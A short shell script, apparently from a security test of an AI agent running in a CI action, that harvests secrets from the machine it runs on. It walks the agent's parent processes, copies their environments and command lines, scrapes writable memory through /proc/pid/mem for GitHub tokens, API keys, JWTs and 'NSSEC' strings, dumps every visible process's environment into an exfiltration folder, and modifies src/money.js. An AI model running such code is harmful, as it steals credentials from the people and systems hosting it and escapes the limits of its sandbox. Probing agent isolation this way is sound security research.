# Walks up the agent's parent processes and then every process it can see, copying each one's
# environment and command line, and searching the writable memory of each ancestor for token-shaped
# strings (what a same-user agent could do to the action's node process).
out="$EXFIL/proc"
mkdir -p "$out"
pid=$$
while [ -n "$pid" ] && [ "$pid" -gt 1 ]; do
  cat "/proc/$pid/environ" > "$out/environ-$pid" 2>/dev/null
  tr '\0' ' ' < "/proc/$pid/cmdline" > "$out/cmdline-$pid" 2>/dev/null
  # Readable, writable memory regions (heap and anonymous maps) of the process, up to 256 MB each.
  while read -r range perms _; do
    case "$perms" in rw*) ;; *) continue ;; esac
    start=$((16#${range%-*})); end=$((16#${range#*-}))
    size=$((end - start)); [ "$size" -gt 268435456 ] && continue
    dd if="/proc/$pid/mem" bs=4096 skip=$((start / 4096)) count=$((size / 4096)) 2>/dev/null |
      grep -aoE 'ghs_[A-Za-z0-9_-]{20,}|sk-[A-Za-z0-9_-]{20,}|eyJ[A-Za-z0-9_-]{10,}|NSSEC[A-Za-z0-9_-]+' >> "$out/memory-$pid"
  done < "/proc/$pid/maps" 2>/dev/null
  pid=$(awk '/^PPid:/ {print $2}' "/proc/$pid/status" 2>/dev/null)
done
for p in /proc/[0-9]*; do
  cat "$p/environ" > "$out/all-${p#/proc/}" 2>/dev/null
done
ls /proc | grep -c '^[0-9]' > "$out/visible-processes"
echo "// $(date +%s)" >> src/money.js
